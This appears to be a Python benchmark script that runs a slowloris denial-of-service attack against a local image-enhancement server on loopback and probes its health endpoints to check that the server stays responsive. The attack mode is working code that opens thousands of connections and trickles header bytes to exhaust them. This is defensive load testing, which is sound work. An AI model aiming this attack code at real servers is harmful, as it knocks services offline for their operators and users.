#!/usr/bin/env python3
"""slowloris.py - a slowloris attacker and a prober against `enhance serve` (bench/serve/slowloris.sh).

attack: N connections from one source address, each sending a request's headers one byte every
  INTERVAL seconds and never ending them; a connection the server closes is opened again
  INTERVAL seconds later (an attacker keeps trying). Prints once a second: connections open, closed by
  the server, refused, connects tried.
probe: for DURATION seconds, every 0.5 s GET /healthz on the main port from another source
  address and on the probe port, and every 3 s POST an image to /v1/enhance from the other
  address; each on a new connection, timed from connect to the whole answer. Prints the
  latencies (p50, p95, max), the answers' status codes and the server's connection gauges.
Standard library only. Linux: any 127/8 address is a loopback source.
"""
import argparse
import errno
import os
import resource
import selectors
import socket
import sys
import time


def raise_nofile():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return resource.getrlimit(resource.RLIMIT_NOFILE)[0]


def attack(a):
    limit = raise_nofile()
    if a.conns + 64 > limit:
        sys.exit(f"attack: {a.conns} connections need `ulimit -n` above {a.conns + 64} (have {limit})")
    sel = selectors.DefaultSelector()
    head = b"GET /healthz HTTP/1.1\r\nHost: x\r\nUser-Agent: slowloris\r\n"
    trickle = b"X-a: b\r\n"
    slots = [None] * a.conns   # [sock, next_send, bytes_sent]
    reopen = [0.0] * a.conns   # when a closed slot connects again
    stats = {"open": 0, "closed": 0, "refused": 0, "tried": 0}
    t_end = time.monotonic() + a.duration
    t_print = time.monotonic() + 1

    def close(i, by_server):
        s = slots[i][0]
        try:
            sel.unregister(s)
        except (KeyError, ValueError):
            pass
        s.close()
        slots[i] = None
        # again one interval later, not at once: a steady attacker, not a busy loop
        reopen[i] = time.monotonic() + a.interval
        stats["open"] -= 1
        stats["closed" if by_server else "refused"] += 1

    def opening(i, now):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.bind((a.src, 0))
            rc = s.connect_ex(("127.0.0.1", a.port))
        except OSError:
            s.close()
            stats["refused"] += 1
            reopen[i] = now + a.interval
            return
        stats["tried"] += 1
        if rc not in (0, errno.EINPROGRESS):
            s.close()
            stats["refused"] += 1
            reopen[i] = now + a.interval
            return
        # spread the ticks over the interval
        slots[i] = [s, now + (i % 100) * a.interval / 100, 0]
        stats["open"] += 1
        sel.register(s, selectors.EVENT_READ, i)

    now = time.monotonic()
    for i in range(a.conns):
        opening(i, now)
    while time.monotonic() < t_end:
        for key, _ in sel.select(timeout=0.05):
            i = key.data
            if slots[i] is None:
                continue
            try:
                d = slots[i][0].recv(4096)
            except BlockingIOError:
                continue
            except OSError:
                d = b""
            if not d:
                close(i, True)
        now = time.monotonic()
        for i in range(a.conns):
            sl = slots[i]
            if sl is None:
                if now >= reopen[i]:
                    opening(i, now)
                continue
            if now >= sl[1]:
                data = head[sl[2]:sl[2] + 1] if sl[2] < len(head) else trickle[(sl[2] - len(head)) % len(trickle):][:1]
                try:
                    sl[0].send(data)
                    sl[2] += 1
                    sl[1] = now + a.interval
                except BlockingIOError:
                    sl[1] = now + 0.2
                except OSError:
                    close(i, True)
        if now >= t_print:
            print(f"attack: {stats['open']} open, {stats['closed']} closed by the server, "
                  f"{stats['refused']} refused, {stats['tried']} connects", flush=True)
            t_print = now + 1
    for i in range(a.conns):
        if slots[i] is not None:
            slots[i][0].close()


def exchange(port, req, src=None, timeout=10.0):
    """(status, seconds) of one request on a new connection; status 0 when nothing came."""
    t0 = time.monotonic()
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(timeout)
        if src:
            s.bind((src, 0))
        s.connect(("127.0.0.1", port))
        s.sendall(req)
        out = b""
        while True:
            d = s.recv(65536)
            if not d:
                break
            out += d
        s.close()
    except OSError:
        return 0, time.monotonic() - t0
    t = time.monotonic() - t0
    try:
        return int(out.split(b" ", 2)[1]), t
    except (IndexError, ValueError):
        return 0, t


def pct(v, p):
    v = sorted(v)
    return v[min(len(v) - 1, int(p / 100 * len(v)))] if v else float("nan")


def gauge(text, name):
    for line in text.splitlines():
        if line.startswith(name + " "):
            return float(line.split()[-1])
    return float("nan")


def probe(a):
    hz = b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
    metrics = b"GET /metrics HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
    img = open(a.image, "rb").read()
    post = (b"POST /v1/enhance?format=jpeg HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
            b"Content-Type: image/jpeg\r\nContent-Length: " + str(len(img)).encode() + b"\r\n\r\n" + img)
    res = {"main /healthz (other address)": [], "probe /healthz (attacker's address)": [],
           "POST /v1/enhance (other address)": []}
    codes = {k: {} for k in res}
    peak_main = 0
    t_end = time.monotonic() + a.duration
    next_post = time.monotonic()
    while time.monotonic() < t_end:
        for k, (port, req, src) in (("main /healthz (other address)", (a.port, hz, a.other)),
                                    ("probe /healthz (attacker's address)", (a.probe_port, hz, a.src))):
            st, t = exchange(port, req, src, timeout=5)
            res[k].append(t)
            codes[k][st] = codes[k].get(st, 0) + 1
        if time.monotonic() >= next_post:
            k = "POST /v1/enhance (other address)"
            st, t = exchange(a.port, post, a.other, timeout=60)
            res[k].append(t)
            codes[k][st] = codes[k].get(st, 0) + 1
            next_post = time.monotonic() + 3
        try:
            s = socket.create_connection(("127.0.0.1", a.probe_port), timeout=5)
            s.sendall(metrics)
            text = b""
            while True:
                d = s.recv(65536)
                if not d:
                    break
                text += d
            s.close()
            peak_main = max(peak_main, gauge(text.decode(errors="replace"), 'enhance_connections{listener="main"}'))
            kills = gauge(text.decode(errors="replace"), "enhance_connections_deadline_closed_total")
        except OSError:
            kills = float("nan")
        time.sleep(0.5)
    for k, v in res.items():
        print(f"{k}: n={len(v)} p50 {pct(v, 50) * 1000:.1f} ms, p95 {pct(v, 95) * 1000:.1f} ms, "
              f"max {max(v) * 1000:.1f} ms; status {dict(sorted(codes[k].items()))}")
    print(f"server: peak connections on the main port {peak_main:.0f}; closed at their deadline {kills:.0f}")
    ok = all(pct(res[k], 100) < 0.1 and set(codes[k]) == {200} for k in list(res)[:2]) and \
        set(codes["POST /v1/enhance (other address)"]) == {200}
    print("# slowloris: " + ("PASS (/healthz < 100 ms on both ports, every request answered 200)" if ok else "FAIL"))
    return 0 if ok else 1


def main():
    p = argparse.ArgumentParser()
    p.add_argument("mode", choices=["attack", "probe"])
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--probe-port", type=int)
    p.add_argument("--conns", type=int, default=2000)
    p.add_argument("--interval", type=float, default=3.0)
    p.add_argument("--duration", type=float, default=60)
    p.add_argument("--src", default="127.0.0.1")
    p.add_argument("--other", default="127.0.0.2")
    p.add_argument("--image")
    a = p.parse_args()
    if a.mode == "attack":
        attack(a)
        return 0
    return probe(a)


if __name__ == "__main__":
    sys.exit(main())
